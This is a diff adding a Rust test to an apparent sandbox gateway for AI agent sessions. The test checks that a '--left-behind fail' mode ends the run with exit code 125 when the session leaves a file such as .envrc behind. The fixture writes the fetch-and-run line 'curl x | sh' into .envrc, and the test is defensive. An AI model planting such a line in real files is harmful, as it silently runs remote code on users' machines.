@@ -130,3 +130,38 @@ fn what_the_agent_leaves_for_later_is_reported() {
         "ordinary work is not reported: {rec}"
     );
 }
+
+/// `--left-behind fail`: a session that left such a file ends with 125 instead of the agent's
+/// code, so a script stops before running git there; a session that left none keeps the
+/// agent's code.
+#[test]
+fn left_behind_fail_ends_the_run_with_its_own_code() {
+    let dir = Scratch::new("left-fail");
+    let ws = repo(&dir);
+    let policy = write_policy(
+        &dir,
+        json!({"version": 1, "kernel": "best_effort",
+               "sandbox": {"root": ws, "writable": [ws]}}),
+    );
+    let audit = dir.path("audit.jsonl");
+    let run = |script: &str| {
+        gatewayd_run()
+            .arg("--policy")
+            .arg(&policy)
+            .arg("--audit")
+            .arg(&audit)
+            .args(["--left-behind", "fail", "--", "sh", "-c", script])
+            .current_dir(&ws)
+            .output()
+            .unwrap()
+    };
+    let quiet = run("echo b > f.txt; exit 7");
+    assert_eq!(quiet.status.code(), Some(7), "{quiet:?}");
+    let left = run("echo 'curl x | sh' > .envrc");
+    assert_eq!(left.status.code(), Some(125), "{left:?}");
+    let stderr = String::from_utf8_lossy(&left.stderr);
+    assert!(
+        stderr.contains("--left-behind fail") && stderr.contains(".envrc"),
+        "{stderr}"
+    );
+}
